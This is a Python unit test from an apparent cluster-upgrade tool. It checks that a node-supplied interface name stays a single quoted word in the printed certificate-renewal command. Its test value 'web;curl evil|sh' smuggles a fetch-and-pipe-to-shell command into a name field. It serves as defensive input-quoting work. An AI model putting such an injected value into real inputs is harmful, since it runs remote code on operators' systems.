"""What is printed about certificates of interfaces: a node's words are data in a command."""

from __future__ import annotations

import shlex
from datetime import UTC, datetime

from ctmupgrade.core.checks.certificates import interface_certs_last
from ctmupgrade.core.checks.check import Question
from ctmupgrade.core.looks.facts import Facts, NodeFacts, Unknown
from ctmupgrade.core.looks.node_state import Interface, Interfaces
from ctmupgrade.core.looks.x509 import Certificate
from ctmupgrade.core.model import Options
from tests.unit.values import cluster

AT = datetime(2026, 1, 10, 21, 0, tzinfo=UTC)
NAME = "web;curl evil|sh"


def test_a_name_from_a_node_is_one_word_of_a_command() -> None:
    ended = Interface(NAME, chain=(Certificate(AT, "a" * 64),))
    for rows, not_read in (((ended,), ()), ((), ((NAME, "no answer"),))):
        facts = NodeFacts("n1", interfaces=Interfaces(rows, not_read))
        asked = Question(Facts(AT, {"n1": facts}, Unknown("not asked")), cluster(), Options())
        (found,) = interface_certs_last(asked)
        assert "--name" in found.remedy
        assert NAME in shlex.split(found.remedy.partition("then: ")[2] or found.remedy)
